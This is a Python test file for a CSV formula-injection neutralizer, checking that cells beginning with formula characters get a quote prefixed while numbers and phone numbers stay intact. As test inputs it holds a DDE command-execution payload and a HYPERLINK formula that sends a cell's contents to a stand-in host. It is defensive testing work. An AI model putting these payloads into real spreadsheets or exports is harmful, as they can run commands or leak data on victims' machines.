"""The OWASP rule for CSV cells, one case per way a spreadsheet could start a formula."""

import csv
import io

import pytest

from jobs.spreadsheet import neutralize, safe_cell, safe_row


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\tabc", "'\tabc"),
        ("\rabc", "'\rabc"),
        ('=HYPERLINK("http://x/?"&C2,"xem")', '\'=HYPERLINK("http://x/?"&C2,"xem")'),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("=", "'="),
        ("-", "'-"),
        ("+84 912 345 678", "'+84 912 345 678"),
        ("-inf", "'-inf"),
    ],
)
def test_a_formula_start_gets_a_quote_in_front(value: str, written: str) -> None:
    assert neutralize(value) == written


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (" =1+1", "' =1+1"),
        ("\u00a0=1+1", "'\u00a0=1+1"),
        ('"=1+1"', '\'"=1+1"'),
        ('  " @x', '\'  " @x'),
        ("\n=1+1", "\n'=1+1"),
        ("\ufeff=1+1", "'\ufeff=1+1"),
    ],
)
def test_whitespace_and_quotes_a_reader_trims_do_not_hide_a_formula(value: str, written: str) -> None:
    assert neutralize(value) == written


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("Chợ Bến Thành; =HYPERLINK(1)", "Chợ Bến Thành;' =HYPERLINK(1)"),
        ("Chợ Bến Thành;=1+1", "Chợ Bến Thành;'=1+1"),
        ("a,@x", "a,'@x"),
        ('a,"=1+1"', 'a,\'"=1+1"'),
        ("a\t-x", "a\t'-x"),
        ("a\r\n+x", "a\r\n'+x"),
        ("\t=1", "'\t'=1"),
    ],
)
def test_every_piece_a_separator_could_cut_off_is_neutralized(value: str, written: str) -> None:
    assert neutralize(value) == written


@pytest.mark.parametrize(
    "value",
    [
        "-12.5",
        "+12",
        "-0",
        "-.5",
        "1e-05",
        "-1E+5",
        "+84912345678",
        "-7 ",
        '"-7"',
        "+84900000001, +84900000002",
        "-1; -2",
    ],
)
def test_plain_numbers_stay_as_they_are(value: str) -> None:
    assert neutralize(value) == value


def test_an_e164_phone_number_stays_dialable() -> None:
    """Decided: `+84...` is a number to a spreadsheet, not a formula; a quote would be copied into the dialer."""
    assert safe_cell("+84912345678") == "+84912345678"
    assert safe_cell("0912 345 678") == "0912 345 678"


@pytest.mark.parametrize(
    "value",
    ["", "Chợ Bến Thành", "Cà phê Hẻm 20", "079201000002", "2021-08-03 10:00", "venue, ble", "Quận 1 - Bến Nghé",
     "a=b", "x@y.vn", "'=already quoted", "–12", "−12"],
)
def test_ordinary_text_is_untouched(value: str) -> None:
    assert neutralize(value) == value


@pytest.mark.parametrize("value", ["＝1+1", "＋1", "－1", "＠x", "﹦1", "﹢1", "﹣1", "﹫x"])
def test_full_width_formula_starts_are_neutralized(value: str) -> None:
    assert neutralize(value) == "'" + value


def test_cells_of_every_type() -> None:
    assert safe_cell(None) == ""
    assert safe_cell(-3) == "-3"
    assert safe_cell(-0.25) == "-0.25"
    assert safe_cell(float("-inf")) == "'-inf"
    assert safe_cell(True) == "True"
    assert safe_row({"name": "=1+1", "n": -1, "share": None}) == {"name": "'=1+1", "n": "-1", "share": ""}


def test_a_neutralized_cell_reads_back_through_csv_as_one_cell() -> None:
    value = '=HYPERLINK("http://x/?"&C2,"xem")\r\n@x'
    buffer = io.StringIO()
    csv.writer(buffer).writerow([safe_cell(value), "+84912345678"])
    (read,) = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    assert read == ['\'=HYPERLINK("http://x/?"&C2,"xem")\r\n\'@x', "+84912345678"]
